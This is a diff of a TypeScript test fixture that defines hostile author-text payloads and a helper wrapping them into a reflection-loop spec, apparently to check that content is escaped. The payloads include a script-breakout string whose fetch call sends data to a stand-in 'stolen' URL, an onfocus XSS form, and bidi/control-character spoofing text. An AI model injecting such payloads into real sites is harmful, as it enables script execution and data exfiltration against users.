@@ -1,3 +1,5 @@
+import type { ReflectionSpec } from '../../src/index';
+
 /** What an author could write to make a page do something. */
 export const HOSTILE = [
   '</pre></style></script><script>document.title = "taken"; fetch("https://example.com/stolen")</script>',
@@ -7,3 +9,15 @@ export const HOSTILE = [
   '\u202egnp.exe \u2066isolated\u2069 \u200b\u0000\u001b[31mred \ufeff\ud800 end',
   '<form action=https://example.com><button autofocus onfocus=alert(1)>send</button></form>',
 ].join('\n');
+
+/** A loop with hostile texts of its owner, whose action `attacks` writes others. */
+export function hostileLoop(text: string): ReflectionSpec {
+  return {
+    name: text.slice(0, 90),
+    // A task is a template, which this part of the text would break.
+    task: text.replace(/\{\{.*/, ''),
+    generator: { action: 'attacks' },
+    evaluator: { type: 'regex', pattern: '^never$', message: text.slice(0, 300) },
+    maxIterations: 2,
+  } as ReflectionSpec;
+}
